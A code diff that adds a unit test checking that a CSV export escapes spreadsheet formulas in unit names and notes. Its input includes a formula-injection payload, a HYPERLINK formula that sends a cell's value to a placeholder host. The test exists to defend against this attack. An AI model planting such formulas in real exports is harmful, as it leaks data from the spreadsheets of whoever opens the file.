@@ -58,3 +58,15 @@ def test_one_row_per_criterion_with_extra_columns_last():
     assert len(lines) == 1 + len(S.criteria)
     assert "28756,2024,1.1,12,12,,Xã Tân Xuân" in lines
     assert "28756,2024,1.3,,,true,Xã Tân Xuân" in lines
+
+
+def test_extra_text_is_never_a_formula_and_the_file_still_reads_back():
+    """A unit name a spreadsheet would evaluate gets an apostrophe (issue 16, 2)."""
+    out = io.StringIO()
+    inputs = {"1.1": CriterionInput(12, 12)}
+    write_long_csv([UnitYear("28756", 2024, inputs)], S, out,
+                   extra={"unit_name": {"28756": '=HYPERLINK("http://x"&C5,"Bấm")'}, "note": {"28756": "-1+2"}})
+    lines = out.getvalue().splitlines()
+    assert """28756,2024,1.1,12,12,,"'=HYPERLINK(""http://x""&C5,""Bấm"")",'-1+2""" in lines
+    back = read_long_csv(out.getvalue().encode("utf-8"), S, name="ra.csv")
+    assert _normal(back) == _normal([UnitYear("28756", 2024, inputs)])
